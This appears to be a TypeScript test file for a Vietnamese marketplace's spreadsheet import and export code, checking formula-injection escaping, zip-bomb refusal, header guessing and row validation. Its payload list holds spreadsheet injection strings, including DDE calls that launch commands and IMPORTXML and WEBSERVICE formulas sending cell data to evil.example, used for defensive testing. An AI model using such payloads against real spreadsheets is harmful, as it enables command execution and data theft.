import fc from "fast-check";
import { expect, test } from "vitest";
import { fieldHeaders, guessColumns } from "./columns";
import { isFormula, makeHarmless, readPlain } from "./plain-cells";
import { createRowReader, stockUnits } from "./read-rows";
import { readTable, type Table } from "./read-table.server";
import { writeCsv, writeXlsx } from "./write-table.server";

const kinds = [
  { id: "mang-cau-ba-den", name: "Mãng cầu Bà Đen", altNames: ["na"], unit: "kg" },
  { id: "muoi-tom", name: "Muối tôm", altNames: [], unit: "hũ 200 g" },
];
const readRow = createRowReader(kinds);

/** Ways a cell has been made to run, each with five hundred tails and beginnings in all. */
const payloads = (() => {
  const starts = [
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\t",
    "＝",
    "＋",
    "－",
    "＠",
    "'=",
    "''",
    "-+",
    "=-",
    "@=",
  ];
  const bodies = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","xem")',
    'IMPORTXML("http://evil.example/?"&A1,"//a")',
    "SUM(1,2)",
    'WEBSERVICE("http://evil.example")',
    "A1",
    '2+5+cmd|"/C calc"!A0',
    'DDE("cmd";"/C calc";"!A0A0")',
    "Mãng cầu; loại 1",
    'có "ngoặc kép", phẩy; chấm phẩy',
  ];
  const tails = ["", "\nxuống dòng", " cuối"];
  return starts
    .flatMap((start) => bodies.flatMap((body) => tails.map((tail) => start + body + tail)))
    .concat(starts, ["'", "", " =1", "a=b", "12", "0084"])
    .slice(0, 510);
})();

const cellsOf = (table: Table | { refused: string }, column = 0): string[] => {
  if ("refused" in table) throw new Error(table.refused);
  return table.rows.map(({ cells }) => readPlain(cells[column]!));
};

test("S22 five hundred cells that spreadsheets would run come out harmless and back exactly", async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(500);
  const sheet = {
    name: "Hàng",
    headers: ["Tên sản phẩm", "Thứ tự"],
    rows: payloads.map((text, index) => [text, index]),
  };
  const csv = writeCsv(sheet);
  for (const line of csv.toString("utf8").slice(1).split("\r\n")) {
    expect(line).not.toMatch(/(^|,)"?[=+\-@\t]/);
  }
  expect(cellsOf(await readTable(csv))).toEqual(payloads);
  const xlsx = await readTable(await writeXlsx([sheet]));
  expect(cellsOf(xlsx)).toEqual(payloads);
  if ("refused" in xlsx) throw new Error(xlsx.refused);
  expect(xlsx.rows.filter(({ formulas }) => formulas.length > 0)).toEqual([]);
  expect(payloads.map(makeHarmless).filter(isFormula)).toEqual([]);
});

test("what is made harmless reads as it was, whatever it is", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme" }), (text) => {
      expect(readPlain(makeHarmless(text))).toBe(text);
      expect(makeHarmless(text)).not.toMatch(/^[=+\-@\t\r]/);
    }),
    { numRuns: 2_000 },
  );
});

test.each([
  ["Excel of Vietnam", "\ufeffMã hàng;Giá (đồng)\r\nA1;25.000\r\n", "utf8"],
  ["commas", "Mã hàng,Giá (đồng)\nA1,25.000\n", "utf8"],
  ["tabs in UTF-16", "\ufeffMã hàng\tGiá (đồng)\r\nA1\t25.000\r\n", "utf16le"],
] as const)("a plain file is read: %s", async (_, text, encoding) => {
  expect(await readTable(Buffer.from(text, encoding))).toEqual({
    headers: ["Mã hàng", "Giá (đồng)"],
    rows: [{ number: 2, cells: ["A1", "25.000"], formulas: [] }],
  });
});

test.each([
  ["a picture", Buffer.from("ffd8ffe000104a46494600010101", "hex"), "not-a-table"],
  ["half a workbook", Buffer.from("504b03041400060008", "hex"), "not-a-table"],
  ["nothing", Buffer.alloc(0), "empty"],
  ["heads alone", Buffer.from("Mã hàng,Giá\n"), "empty"],
  ["5,001 rows", Buffer.from(`Mã\n${"A\n".repeat(5_001)}`), "too-many-rows"],
  ["101 columns", Buffer.from(`${"a,".repeat(100)}a\n1\n`), "too-many-columns"],
])("%s is refused as %s", async (_, bytes, refused) => {
  expect(await readTable(bytes)).toEqual({ refused });
});

test("a workbook that swells when unpacked is refused before it is unpacked", async () => {
  const sheet = { name: "a", headers: ["Mã hàng"], rows: [["x".repeat(3_000_000)]] };
  const started = performance.now();
  expect(await readTable(await writeXlsx([sheet]))).toEqual({ refused: "zip-bomb" });
  expect(performance.now() - started).toBeLessThan(5_000);
});

test("heads of other marketplaces are understood", () => {
  const head = (...headers: string[]) =>
    Object.fromEntries(
      Object.entries(guessColumns(headers)).map(([field, at]) => [field, headers[at]]),
    );
  expect(
    head("Mã Sản phẩm", "Tên Sản phẩm", "SKU phân loại", "Tên phân loại hàng", "Giá", "Kho hàng"),
  ).toEqual({
    sku: "SKU phân loại",
    name: "Tên Sản phẩm",
    variant: "Tên phân loại hàng",
    price: "Giá",
    stock: "Kho hàng",
  });
  expect(head("SellerSKU", "Tên sản phẩm", "Giá bán", "Số lượng", "Mô tả")).toMatchObject({
    sku: "SellerSKU",
    price: "Giá bán",
    stock: "Số lượng",
  });
  const ours = Object.values(fieldHeaders);
  expect(Object.keys(guessColumns(ours))).toHaveLength(ours.length);
});

test.each([
  ["sku", { sku: "" }, /Thiếu mã hàng/],
  ["price", { price: "0" }, /lớn hơn 0/],
  ["price", { price: "1.000.000.000" }, /nhỏ hơn 1 tỷ/],
  ["price", { price: "hai chục" }, /chữ số/],
  ["price", { price: "=5*5" }, /công thức/],
  ["kind", { kind: "Mãng cầu Bà Đem" }, /Có phải “Mãng cầu Bà Đen”/],
  ["unit", { unit: "ký lô" }, /Đơn vị “ký lô”/],
  ["how", { how: "bán đại" }, /Cách bán/],
  ["stock", { stock: "nhiều" }, /Số lượng ghi bằng số/],
  ["grams", { grams: "0" }, /bằng gam/],
] as const)("a bad %s is told at its column", (column, changes, message) => {
  const good = {
    sku: "A1",
    name: "Mãng cầu",
    kind: "na",
    variant: "",
    how: "theo ký",
    unit: "kg",
    price: "60.000",
    stock: "12,5",
    grams: "",
  };
  const fields = Object.keys(good) as (keyof typeof good)[];
  const columns = Object.fromEntries(fields.map((field, index) => [field, index]));
  const read = (row: Record<string, string>) =>
    readRow({ cells: fields.map((field) => row[field]!), formulas: [] }, columns);
  expect(read(good).problems).toEqual([]);
  const { problems } = read({ ...good, ...changes });
  expect(problems).toHaveLength(1);
  expect(problems[0]).toMatchObject({ column, message: expect.stringMatching(message) });
});

test("stock is kilograms by weight and whole pieces otherwise", () => {
  expect(stockUnits(12.5, "weight")).toBe(12_500);
  expect(stockUnits(12.5, "pack")).toBeNull();
  expect(stockUnits(3, "piece")).toBe(3);
});
